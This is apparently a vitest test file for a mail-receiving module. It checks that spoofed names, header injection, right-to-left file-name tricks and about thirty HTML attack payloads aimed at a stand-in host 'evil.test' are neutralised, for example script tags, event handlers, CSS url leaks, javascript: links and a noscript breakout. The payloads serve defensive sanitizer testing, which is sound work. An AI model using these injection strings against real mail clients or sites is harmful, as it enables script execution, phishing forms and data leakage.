import { expect, it } from 'vitest'
import { prepareMail } from '../received/prepare-mail.ts'

/** A mail with this HTML, as the server of the sender would deliver it. */
function aMail(html: string): Buffer {
  const head = ['From: Eve <eve@evil.test>', 'Subject: Re: A role', 'Message-ID: <a@evil.test>']
  const type = ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8']
  return Buffer.from([...head, ...type, '', html].join('\r\n'))
}

async function readHtml(html: string): Promise<string> {
  return (await prepare(aMail(html))).html ?? ''
}

function prepare(source: Buffer) {
  return prepareMail({ key: '1', folder: 'inbox', receivedAt: new Date(), source })
}

it('names, subjects and file names of a received mail cannot pass for others', async () => {
  const encode = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
  const file = `Content-Disposition: attachment; filename="${encode('CV\u202efdp.exe')}"`
  const source = [
    `From: ${encode('\u2066Eve\u0000\u200b')} <eve@evil.test>`,
    `Subject: ${encode('Re:\u202e A\u0007 role\r\nBcc: x')}`,
    'Message-ID: <a\u0000b@evil.test>',
    'In-Reply-To: <c\u0000d@meridian.test>',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    ['--b', 'Content-Type: text/plain', '', 'Hi'].join('\r\n'),
    ['--b', 'Content-Type: application/pdf', file, '', 'x', '--b--'].join('\r\n'),
  ]
  const { mail, keys } = await prepare(Buffer.from(source.join('\r\n')))
  expect(mail).toMatchObject({
    from: { name: 'Eve' },
    subject: 'Re: A role Bcc: x',
    messageId: '<ab@evil.test>',
    attachments: [{ fileName: 'CVfdp.exe' }],
  })
  expect(keys.messageIds).toEqual(['<cd@meridian.test>'])
})

it.each([
  ['a script', '<script>steal()</script>'],
  ['a script in an odd case', '<ScRiPt src="https://evil.test/a.js"></sCrIpT>'],
  ['an event', '<p onmouseover="steal()">Hi</p>'],
  ['a style that loads', '<style>p { background: url(https://evil.test/a) }</style>'],
  ['a style that reads', '<style>input[value^="a"] { background: url(//evil.test/a) }</style>'],
  ['a style attribute that loads', '<p style="background:url(https://evil.test/a)">Hi</p>'],
  ['an escaped style', '<p style="background:\\75\\72\\6c(https://evil.test/a)">Hi</p>'],
  ['an image set', '<p style="background:image-set(\'https://evil.test/a\' 1x)">Hi</p>'],
  ['a tracking pixel', '<img src="https://evil.test/pixel.gif" width="1" height="1">'],
  ['a set of images', '<img srcset="https://evil.test/a.png 1x">'],
  ['a background', '<table background="https://evil.test/a.png"><tr><td>Hi</td></tr></table>'],
  ['a form', '<form action="https://evil.test"><input name="password"></form>'],
  ['a button that sends', '<button formaction="https://evil.test">Sign in</button>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
  ['another base', '<base href="https://evil.test/"><a href="/login">Sign in</a>'],
  ['a drawing with a script', '<svg onload="steal()"><script>steal()</script></svg>'],
  ['a drawing that loads', '<svg><image href="https://evil.test/a.png" /></svg>'],
  ['a drawing as an image', '<img src="data:image/svg+xml,<svg onload=steal()>">'],
  ['mathematics', '<math><a xlink:href="javascript:steal()">Hi</a></math>'],
  ['a frame', '<iframe src="https://evil.test"></iframe>'],
  ['a document in a frame', '<iframe srcdoc="<script>steal()</script>"></iframe>'],
  ['an object', '<object data="https://evil.test/a.swf"></object><embed src="//evil.test">'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.test/a.css">'],
  ['a film', '<video src="https://evil.test/a.mp4" poster="https://evil.test/a.png"></video>'],
  ['a link that runs', '<a href="javascript:steal()">Hi</a>'],
  ['a link that runs, in pieces', '<a href="java&#10;script:steal()">Hi</a>'],
  ['a link with data', '<a href="data:text/html,<script>steal()</script>">Hi</a>'],
  ['a comment of old browsers', '<!--[if IE]><script>steal()</script><![endif]-->'],
  [
    'markup that breaks out',
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  ],
  ['a template', '<template><script>steal()</script></template>'],
])('%s is stored without its effect', async (_, html) => {
  const stored = await readHtml(`<p>Before</p>${html}<p>After</p>`)
  expect(stored).toContain('<p>Before</p>')
  for (const tag of stored.match(/<[^>]*>/g) ?? []) {
    expect(tag).not.toMatch(
      /^<\/?(?:script|style|svg|math|form|input|button|meta|base|link|iframe|object|embed|video|template|noscript)/i,
    )
    expect(tag).not.toMatch(/\son\w+=|javascript:|data:|evil\.test|url\(|image-set|srcset|\\/i)
  }
})

it('links of a received mail open outside the app and tell nothing about it', async () => {
  expect(await readHtml('<a href="https://news.test/a" target="_top" rel="opener">News</a>')).toBe(
    '<a href="https://news.test/a" rel="noopener noreferrer nofollow" target="_blank">News</a>',
  )
})
